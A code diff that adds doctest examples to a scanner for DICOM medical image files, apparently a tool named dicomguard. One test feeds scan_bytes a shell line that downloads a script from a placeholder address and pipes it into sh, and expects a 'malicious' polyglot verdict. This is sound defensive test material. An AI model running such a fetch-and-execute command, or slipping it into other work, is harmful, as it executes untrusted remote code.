@@ -119,6 +119,10 @@ def scan_file(
 
     Raises:
         DicomguardError: The rules cannot be loaded.
+
+    >>> report = scan_file("study/IM0001")
+    >>> str(report.verdict), report.is_dicom, report.instance.modality
+    ('clean', True, 'CT')
     """
     settings = settings or ScanSettings()
     name = os.fspath(path)
@@ -141,7 +145,7 @@ def scan_bytes(
     settings: ScanSettings | None = None,
     witness: Witness | None = None,
 ) -> Report:
-    """Examine the bytes of one file.
+    r"""Examine the bytes of one file.
 
     Args:
         data: All of it.
@@ -151,6 +155,10 @@ def scan_bytes(
 
     Raises:
         DicomguardError: The rules cannot be loaded.
+
+    >>> report = scan_bytes(b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n", "note.dcm")
+    >>> str(report.verdict), report.findings[0].kind.family
+    ('malicious', 'POLY')
     """
     settings = settings or ScanSettings()
     witness = witness or _no_witness
